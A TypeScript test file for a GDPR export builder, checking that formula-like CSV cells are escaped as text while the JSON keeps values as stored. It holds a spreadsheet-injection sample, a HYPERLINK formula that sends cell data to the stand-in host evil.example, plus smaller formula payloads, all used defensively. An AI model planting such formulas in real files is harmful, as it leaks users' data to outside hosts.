import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildExportZip } from './export.builder';

const AT = new Date('2026-11-23T12:00:00.000Z');
const HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Details")';

function exportOf(rows: Record<string, unknown>[]) {
  const files = unzipSync(new Uint8Array(buildExportZip([{ name: 'transactions', rows }], 'readme', AT)));
  return { csv: parse(strFromU8(files['transactions.csv']!)) as string[][], json: JSON.parse(strFromU8(files['transactions.json']!)) as unknown };
}

describe('the GDPR export', () => {
  it('opens counterparties and descriptions that look like formulas as text in a spreadsheet', () => {
    const rows = [
      { booked_on: '2026-03-01', amount_cents: -1250, counterparty_name: HOSTILE, description: '+31 6 12345678 terugbetaling' },
      { booked_on: '2026-03-02', amount_cents: 500, counterparty_name: '@risk', description: '-korting' },
      { booked_on: '2026-03-03', amount_cents: -99, counterparty_name: '\tTab B.V.', description: '\r=1+1' },
      { booked_on: '2026-03-04', amount_cents: -100, counterparty_name: 'Albert Heijn 1403', description: 'boodschappen' },
    ];
    const { csv } = exportOf(rows);
    expect(csv[0]).toEqual(['booked_on', 'amount_cents', 'counterparty_name', 'description']);
    expect(csv.slice(1)).toEqual([
      ['2026-03-01', '-1250', `'${HOSTILE}`, "'+31 6 12345678 terugbetaling"],
      ['2026-03-02', '500', "'@risk", "'-korting"],
      ['2026-03-03', '-99', "'\tTab B.V.", "'\r=1+1"],
      ['2026-03-04', '-100', 'Albert Heijn 1403', 'boodschappen'],
    ]);
  });

  it('keeps the JSON exactly as stored', () => {
    const rows = [{ counterparty_name: HOSTILE, description: '-korting', amount_cents: -1250, booked_at: AT }];
    expect(exportOf(rows).json).toEqual([{ counterparty_name: HOSTILE, description: '-korting', amount_cents: -1250, booked_at: AT.toISOString() }]);
  });
});
